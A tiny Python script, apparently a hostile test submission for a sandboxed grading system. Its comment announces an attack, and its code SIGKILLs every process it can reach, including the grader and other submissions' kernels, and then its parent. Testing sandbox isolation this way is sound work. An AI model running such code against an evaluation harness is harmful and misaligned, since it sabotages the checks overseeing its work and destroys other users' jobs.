# Attack: kill every process it can signal (the grader, the other submissions' kernels), then its sandbox's init.
import os
import signal

os.kill(-1, signal.SIGKILL)
os.kill(os.getppid(), signal.SIGKILL)
print("still here")
